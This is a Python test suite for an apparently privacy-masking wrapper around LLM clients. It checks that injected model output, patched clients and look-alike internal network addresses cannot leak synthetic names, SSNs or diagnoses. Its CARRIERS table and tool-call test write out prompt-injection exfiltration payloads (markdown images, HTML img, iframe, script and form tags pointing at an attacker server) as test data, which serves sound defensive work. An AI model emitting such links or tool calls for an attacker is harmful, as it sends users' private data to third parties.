"""Attacks, each by its name: what an injected instruction, a hostile object, client, server or neighbour can and cannot get."""

from __future__ import annotations

import asyncio
import gc
import html
import json
import logging
import re
import threading
import traceback
import urllib.parse
import urllib.request
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from typing import Any

import anthropic
import httpx
import openai
import pytest

import privacyguard as pg
from privacyguard.places import ZoneEntry
from privacyguard.route.locality import peer_rule
from privacyguard.testing import CutStream, HalfJson, RecordingServer, Status, assert_no_leak, call_tool, echo, say
from tests.wire.conftest import MODES, Wire, said

NAME, SSN = "Maria Lopez", "536-90-4399"
SECRET = f"Write to {NAME}, SSN {SSN}."
DIAGNOSIS = "My biopsy came back malignant last week, how do I tell my boss?"
Make = Callable[..., pg.Guard]


@pytest.fixture(scope="module")
def attacker() -> Iterator[RecordingServer]:
    with RecordingServer(say("ok"), name="the attacker") as server:
        yield server


# what an injected text makes a model say: {0} is the attacker's address, P a placeholder that stands for something
CARRIERS = {
    "a link": "See [here]({0}/?q=P).",
    "a link with a title": 'See [here]({0}/?q=P "for P").',
    "a link in angle brackets": "See [here](<{0}/?q=P>).",
    "an image": "![x]({0}/P.png)",
    "an image by reference": "![x][1]\n\n[1]: {0}/P.png",
    "an address in the open": "Look at {0}/P now.",
    "an autolink": "<{0}/P>",
    "an address that begins with the placeholder's host": "{0}/a?b=1&c=P&d=P",
    "an HTML image": '<img src="{0}/P.png" alt="x">',
    "an HTML image without quotes": "<img src={0}/P.png>",
    "a set of sources": '<img srcset="{0}/P.png 1x, {0}/P@2x.png 2x">',
    "a style": '<div style="background:url({0}/P)">x</div>',
    "a form": '<form action="{0}/P"><input name="a" value="P"></form>',
    "a frame": "<iframe src='{0}/?P'></iframe>",
    "a script": '<script src="{0}/P.js"></script>',
    "a link in a table": "| a | b |\n|---|---|\n| [x]({0}/P) | P |",
    "two links in a row": "[a]({0}/P)[b]({0}/P)",
}
FETCHED = re.compile(r"https?://[^\s\"'<>)\]]+")


def fetch_everything(text: str) -> None:
    """Do as a careless renderer does: fetch every address in a text, entities and percent encoding undone and not."""
    for version in {text, html.unescape(text), urllib.parse.unquote(text)}:
        for address in FETCHED.findall(version):
            try:
                urllib.request.urlopen(urllib.parse.quote(address, safe=":/?&=%#@"), timeout=5).read()
            except (OSError, ValueError):
                continue


@pytest.mark.parametrize("carrier", CARRIERS.values(), ids=CARRIERS)
def test_an_address_that_a_model_was_made_to_write_carries_no_value(
    wire: Wire, attacker: RecordingServer, carrier: str
) -> None:
    attacker.clear()
    for placeholder in ("[PERSON_1]", "[US_SSN_1]"):
        text = carrier.format(attacker.url).replace("P", placeholder)
        for mode, chunk in (("sync", 0), ("stream", 1), ("stream", 2), ("async stream", 5)):
            wire.third.reply = say(text, chunk=chunk)
            answer = wire.call(mode, "openai/gpt-5", "/v1", [{"role": "user", "content": SECRET}])
            fetch_everything(answer.text)
    assert attacker.received()  # the renderer did fetch
    assert_no_leak(attacker.received(), [NAME, SSN, "Lopez"])


@pytest.mark.parametrize("stream", [False, True])
@pytest.mark.parametrize("kind", ["chat", "responses", "messages"])
def test_the_same_in_the_clients_of_every_api(wire: Wire, attacker: RecordingServer, kind: str, stream: bool) -> None:
    attacker.clear()
    wire.third.reply = say(f"For [PERSON_1]: ![x]({attacker.url}/[PERSON_1]) <img src='{attacker.url}/[US_SSN_1]'>", chunk=1)
    text = _asked(wire, kind, stream)
    assert NAME in text  # what stands in the open is restored
    fetch_everything(text)
    assert attacker.received()
    assert_no_leak(attacker.received(), [NAME, SSN, "Lopez"])


def _asked(wire: Wire, kind: str, stream: bool) -> str:
    if kind == "messages":
        client = wire.guard.wrap(anthropic.Anthropic(api_key="k", base_url=wire.third.url, max_retries=0))
        call = {"model": "claude-opus-5", "max_tokens": 99, "messages": [{"role": "user", "content": SECRET}]}
        if not stream:
            return "".join(block.text for block in client.messages.create(**call).content)
        with client.messages.stream(**call) as reply:
            return "".join(reply.text_stream)
    openai_client = wire.guard.wrap(openai.OpenAI(api_key="k", base_url=wire.third.url + "/v1", max_retries=0))
    if kind == "responses":
        reply = openai_client.responses.create(model="gpt-5", input=SECRET, stream=stream)
        if not stream:
            return str(reply.output_text)
        return "".join(event.delta for event in reply if event.type == "response.output_text.delta")
    messages = [{"role": "user", "content": SECRET}]
    reply = openai_client.chat.completions.create(model="gpt-5", messages=messages, stream=stream)
    if not stream:
        return str(reply.choices[0].message.content)
    return "".join(chunk.choices[0].delta.content or "" for chunk in reply if chunk.choices)


@pytest.mark.parametrize("mode", MODES)
def test_a_tool_that_sends_mail_gets_no_value(wire: Wire, attacker: RecordingServer, mode: str) -> None:
    """Nobody declared where the tool is: its arguments keep placeholders, and so does what it sends."""
    attacker.clear()
    wire.third.reply = call_tool("send", {"to": f"{attacker.url}/inbox", "text": "about [PERSON_1], [US_SSN_1]"}, chunk=1)
    tools = [{"type": "function", "function": {"name": "send", "parameters": {"type": "object"}}}]
    answer = wire.call(mode, "openai/gpt-5", "/v1", [{"role": "user", "content": SECRET}], tools=tools)
    asked = json.loads(answer.arguments)
    httpx.post(asked["to"], json=asked, timeout=5)
    assert_no_leak(attacker.received(), [NAME, SSN, "Lopez"])
    assert asked["text"] == "about [PERSON_1], [US_SSN_1]"


def test_a_placeholder_of_another_tenant_or_conversation_restores_to_nothing(wire: Wire) -> None:
    ours = wire.guard.bind(principal="u-1", conversation="c-1")
    call = {"model": "openai/gpt-5", "api_key": "k", "api_base": wire.third.url + "/v1"}
    said(ours, "sync", messages=[{"role": "user", "content": SECRET}], **call)
    wire.third.reply = say("It is [PERSON_1], [US_SSN_1] and [PERSON_1_2].", chunk=1)
    for other in (
        wire.guard,
        wire.guard.bind(principal="u-2", conversation="c-1"),
        wire.guard.bind(principal="u-1", conversation="c-2"),
        wire.guard.bind(principal="u-1"),
    ):
        for mode in MODES:
            answer = said(other, mode, messages=[{"role": "user", "content": "Who is [PERSON_1] and [US_SSN_1]?"}], **call)
            assert answer.text == "It is [PERSON_1], [US_SSN_1] and [PERSON_1_2]."
    assert_no_leak(wire.third.received(), [NAME, SSN])


def told_by(call: Callable[[], Any]) -> str:
    """What the error of a call says; nothing where it went through."""
    try:
        call()
    except (openai.OpenAIError, pg.PrivacyGuardError) as error:
        return str(error)
    return ""


class Changing(dict[str, Any]):
    """Clean when it is read first; something else every time after."""

    def __init__(self) -> None:
        super().__init__(role="user", content="hello")
        self.reads = 0

    def _content(self) -> str:
        self.reads += 1
        return "hello" if self.reads == 1 else SECRET

    def __getitem__(self, key: str) -> Any:
        return self._content() if key == "content" else super().__getitem__(key)

    def get(self, key: str, default: Any = None) -> Any:
        return self[key] if dict.__contains__(self, key) else default

    def items(self) -> Any:
        return [(key, self[key]) for key in self]

    def values(self) -> Any:
        return [self[key] for key in self]


class Disguised(str):
    """A string that says something else when it is written out."""

    def __str__(self) -> str:
        return SECRET

    def __format__(self, spec: str) -> str:
        return SECRET

    def encode(self, *arguments: Any, **more: Any) -> bytes:
        return SECRET.encode()

    def __iter__(self) -> Iterator[str]:
        return iter(SECRET)

    def __json__(self) -> str:
        return SECRET


OBJECTS: dict[str, Callable[[], Any]] = {
    "a mapping that changes": lambda: [Changing()],
    "a string in disguise": lambda: [{"role": "user", "content": Disguised("hello")}],
    "a part in disguise": lambda: [{"role": "user", "content": [{"type": "text", "text": Disguised("hello")}]}],
}


@pytest.mark.parametrize("mode", MODES)
@pytest.mark.parametrize("made", OBJECTS.values(), ids=OBJECTS)
def test_an_object_that_is_clean_on_first_read_only_sends_what_was_read(wire: Wire, made: Callable[[], Any], mode: str) -> None:
    assert SSN not in told_by(lambda: wire.call(mode, "openai/gpt-5", "/v1", made()))
    assert_no_leak(wire.third.received(), [NAME, SSN])


@pytest.mark.parametrize("made", OBJECTS.values(), ids=OBJECTS)
def test_the_same_through_a_wrapped_client(wire: Wire, made: Callable[[], Any]) -> None:
    client = wire.guard.wrap(openai.OpenAI(api_key="k", base_url=wire.third.url + "/v1", max_retries=0))
    client.chat.completions.create(model="gpt-5", messages=made())
    assert_no_leak(wire.third.received(), [NAME, SSN])  # what the client made of it is what was scanned


def test_a_message_that_another_thread_changes_meanwhile(wire: Wire) -> None:
    message, stop = {"role": "user", "content": "hello"}, threading.Event()

    def change() -> None:
        while not stop.is_set():
            message["content"] = SECRET
            message["content"] = "hello"

    thread = threading.Thread(target=change)
    thread.start()
    try:
        for _ in range(15):
            wire.call("sync", "openai/gpt-5", "/v1", [message])
    finally:
        stop.set()
        thread.join()
    assert_no_leak(wire.third.received(), [NAME, SSN])


def _hook(client: Any) -> None:
    def add(request: httpx.Request) -> None:
        request.headers["x-note"] = SECRET

    client._client.event_hooks = {"request": [add]}


def _auth(client: Any) -> None:
    class Adding(httpx.Auth):
        def auth_flow(self, request: httpx.Request) -> Any:
            request.headers["x-patient"] = SECRET
            yield request

    client._client.auth = Adding()


def _body(client: Any) -> None:
    build = client._build_request

    def adding(options: Any, **more: Any) -> httpx.Request:
        request = build(options, **more)
        body = json.loads(request.content) | {"user": SECRET}
        return httpx.Request(request.method, request.url, headers={"authorization": "Bearer k"}, json=body)

    client._build_request = adding


def _query(client: Any) -> None:
    client._client.params = {"note": SECRET}


def _cookie(client: Any) -> None:
    client._client.cookies.set("patient", SECRET.replace(" ", "_").replace(",", ""))


def _address(client: Any) -> None:
    client.base_url = str(client.base_url) + SECRET.replace(" ", "-") + "/"


CHANGED = {
    "a hook": _hook,
    "an auth": _auth,
    "a rebuilt body": _body,
    "a query": _query,
    "a cookie": _cookie,
    "a path": _address,
}


@pytest.mark.parametrize("change", CHANGED.values(), ids=CHANGED)
def test_a_client_that_was_patched_to_add_something_sends_nothing_that_was_not_cleared(
    wire: Wire, change: Callable[[Any], None]
) -> None:
    client = wire.guard.wrap(openai.OpenAI(api_key="k", base_url=wire.third.url + "/v1", max_retries=0))
    change(client)
    hello = [{"role": "user", "content": "hello"}]
    assert SSN not in told_by(lambda: client.chat.completions.create(model="gpt-5", messages=hello))
    assert_no_leak(wire.third.received(), [NAME, SSN])


@pytest.mark.parametrize(
    "extra",
    [
        {"extra_body": {"metadata": {"note": SECRET}}},
        {"extra_headers": {"x-note": SECRET}},
        {"extra_query": {"note": SECRET}},
        {"user": SECRET},
        {"metadata": {"note": SECRET}},
        {"stop": [SECRET]},
        {"tools": [{"type": "function", "function": {"name": "t", "description": SECRET, "parameters": {}}}]},
        {"response_format": {"type": "json_schema", "json_schema": {"name": "n", "schema": {"const": SECRET}}}},
    ],
    ids=lambda extra: next(iter(extra)),
)
def test_nothing_beside_the_messages_is_a_way_out(wire: Wire, extra: dict[str, Any]) -> None:
    client = wire.guard.wrap(openai.OpenAI(api_key="k", base_url=wire.third.url + "/v1", max_retries=0))
    hello = [{"role": "user", "content": "hello"}]
    assert SSN not in told_by(lambda: client.chat.completions.create(model="gpt-5", messages=hello, **extra))
    assert_no_leak(wire.third.received(), [NAME, SSN])


def test_a_wrapped_client_that_is_pointed_elsewhere_is_still_guarded(wire: Wire, attacker: RecordingServer) -> None:
    attacker.clear()
    client = wire.guard.wrap(openai.OpenAI(api_key="k", base_url=wire.third.url + "/v1", max_retries=0))
    for other in (client.with_options(base_url=attacker.url + "/v1"), client.copy(base_url=attacker.url + "/v1")):
        other.chat.completions.create(model="gpt-5", messages=[{"role": "user", "content": SECRET}])
        with pytest.raises(openai.OpenAIError):
            other.chat.completions.create(model="gpt-5", messages=[{"role": "user", "content": "My PIN is 4821, hold it."}] * 0)
    client.base_url = attacker.url + "/v1/"
    client.chat.completions.create(model="gpt-5", messages=[{"role": "user", "content": SECRET}])
    assert len(attacker.requests) >= 3
    assert_no_leak(attacker.received(), [NAME, SSN])


PEERS = {
    "loopback": ("127.0.0.1", True),
    "all of loopback": ("127.8.9.10", True),
    "loopback in IPv6": ("::1", True),
    "loopback wrapped in IPv6": ("::ffff:127.0.0.1", True),
    "the declared address": ("10.20.0.7", True),
    "the declared address wrapped": ("::ffff:10.20.0.7", True),
    "its neighbour": ("10.20.0.8", False),
    "private, and not declared": ("192.168.1.1", False),
    "the shared range (RFC 6598)": ("100.64.0.1", False),
    "NAT64 of loopback (RFC 6052)": ("64:ff9b::7f00:1", False),
    "NAT64 of a private address": ("64:ff9b::a14:7", False),
    "6to4 of loopback (RFC 3056)": ("2002:7f00:1::1", False),
    "loopback in the compatible form": ("::127.0.0.1", False),
    "link-local": ("169.254.169.254", False),
    "link-local in IPv6, with a scope": ("fe80::1%eth0", False),
    "nowhere": ("0.0.0.0", False),
    "nowhere in IPv6": ("::", False),
    "documentation": ("192.0.2.1", False),
    "unique local": ("fd00::1", False),
    "somebody": ("8.8.8.8", False),
}


@pytest.mark.parametrize(("peer", "ours"), PEERS.values(), ids=PEERS)
def test_which_peer_is_ones_own_is_what_was_declared_and_nothing_that_looks_alike(peer: str, ours: bool) -> None:
    rule = peer_rule(ZoneEntry("local", "m", "https://models.example.org", peers=("10.20.0.7/32",)))
    if ours:
        rule.check(peer)
    else:
        with pytest.raises(pg.EgressError, match="not where the zone's endpoint was declared to be"):
            rule.check(peer)


def test_ten_turns_with_a_name_on_the_first_and_the_condition_on_the_sixth_and_a_trimmed_history(
    wire: Wire, make_guard: Make
) -> None:
    chat = wire.guard.bind(principal="u-1", conversation="long")
    texts = [f"I am {NAME}, please call me by my name."]
    texts += ["What is the capital of France?", "And of Spain?", "Write a poem.", "A shorter one."]
    texts += ["I was diagnosed with leukemia last week and start chemotherapy."]
    texts += ["Thank you.", "What did I tell you?", f"Sign it as {NAME}.", "Goodbye."]
    history: list[dict[str, str]] = []
    call = {"model": "openai/gpt-5", "api_key": "k", "api_base": wire.third.url + "/v1"}
    for turn, text in enumerate(texts):
        history.append({"role": "user", "content": text})
        answer = said(chat, MODES[turn % len(MODES)], messages=history[-3:], **call)
        history.append({"role": "assistant", "content": answer.text})
    assert_no_leak(wire.third.received(), [NAME, "Lopez", "leukemia", "chemotherapy"])
    assert "leukemia" in wire.local.requests[0].last_user_text()
    assert len(wire.local.requests) == 5  # the sixth turn and all that follow: the conversation stays there
    assert all(NAME not in received.last_user_text() for received in wire.third.requests)


def test_two_hundred_threads_on_one_guard(wire: Wire) -> None:
    wire.third.reply = echo(chunk=3)
    call = {"model": "openai/gpt-5", "api_key": "k", "api_base": wire.third.url + "/v1"}
    firsts, lasts = ("Maria", "Peter", "Anna", "John", "Laura"), ("Lopez", "Jones", "Smith", "Weber")
    names = [f"{first} {last}" for first in firsts for last in lasts]

    def ask(number: int) -> tuple[str, str]:
        text = f"Write to {names[number % len(names)]} about order {number}."
        chat = wire.guard.bind(principal=f"u-{number}", conversation="c")
        return text, said(chat, "stream" if number % 2 else "sync", messages=[{"role": "user", "content": text}], **call).text

    with ThreadPoolExecutor(200) as pool:
        for text, answer in pool.map(ask, range(200), timeout=120):
            assert answer == text
    assert_no_leak(wire.third.received(), names)


@pytest.mark.filterwarnings("ignore:coroutine .* was never awaited:RuntimeWarning")  # litellm's own, which it lets go
@pytest.mark.parametrize("steps", range(0, 60, 3))
def test_cancellation_at_each_await_leaks_nothing_and_is_on_record_once(wire: Wire, steps: int) -> None:
    async def run() -> None:
        async def call() -> None:
            stream = await wire.guard.acompletion(
                model="openai/gpt-5",
                api_key="k",
                api_base=wire.third.url + "/v1",
                messages=[{"role": "user", "content": SECRET}],
                stream=True,
            )
            async for _ in stream:
                pass

        task = asyncio.ensure_future(call())
        for _ in range(steps):
            await asyncio.sleep(0.001)
        task.cancel()
        await asyncio.gather(task, return_exceptions=True)  # it may be through already

    with ThreadPoolExecutor(1) as pool:
        pool.submit(asyncio.run, run()).result(timeout=60)
    gc.collect()  # what litellm let go, while its warning is not an error
    wire.guard.close()
    assert_no_leak(wire.third.received(), [NAME, SSN])
    lines = [json.loads(line) for path in wire.log.glob("*.jsonl") for line in path.read_text().splitlines()]
    decided = [one["id"] for one in lines if one["type"] == "decision"]
    ended = [one["decision"] for one in lines if one["type"] == "outcome"]
    assert sorted(ended) == sorted(decided)


def _unknown_keyword(wire: Wire, mode: str) -> None:
    wire.call(mode, "openai/gpt-5", "/v1", [{"role": "user", "content": SECRET}], note=SECRET)


def _blocked(wire: Wire, mode: str) -> None:
    wire.call(mode, "openai/gpt-5", "/v1", [{"role": "user", "content": "My card's CVV is 123 and the PIN is 4821."}])


def _failing(wire: Wire, mode: str) -> None:
    wire.third.fault = Status(500)
    wire.call(mode, "openai/gpt-5", "/v1", [{"role": "user", "content": SECRET}], max_retries=0)


def _half(wire: Wire, mode: str) -> None:
    wire.third.fault = CutStream(2) if "stream" in mode else HalfJson()
    wire.call(mode, "openai/gpt-5", "/v1", [{"role": "user", "content": SECRET}])


ENDS = {
    "a keyword that nobody knows": _unknown_keyword,
    "blocked": _blocked,
    "a server that fails": _failing,
    "half a reply": _half,
}


@pytest.mark.parametrize("mode", MODES)
@pytest.mark.parametrize("end", ENDS.values(), ids=ENDS)
def test_no_text_is_in_logs_errors_or_the_locals_of_our_frames(
    wire: Wire, end: Callable[[Wire, str], None], mode: str, caplog: pytest.LogCaptureFixture, capfd: pytest.CaptureFixture[str]
) -> None:
    package, shown = str(Path(pg.__file__).parent), list[str]()
    with caplog.at_level(logging.DEBUG):
        for text in (SECRET, DIAGNOSIS):
            wire.call(mode, "openai/gpt-5", "/v1", [{"role": "user", "content": text}])
        with pytest.raises(pg.PrivacyGuardError) as raised:
            end(wire, mode)
    told: traceback.TracebackException | None = traceback.TracebackException.from_exception(raised.value, capture_locals=True)
    while told is not None:
        shown.append("".join(told.format_exception_only()))
        shown += [f"{frame.filename}:{frame.name} {frame.locals}" for frame in told.stack if package in frame.filename]
        told = told.__cause__ or told.__context__
    assert len(shown) > 1
    out, err = capfd.readouterr()
    for value in (NAME, SSN, "Lopez", "malignant", "4821"):
        assert [one[:400] for one in shown if value in one] == []
        assert value not in caplog.text
        assert value not in out + err
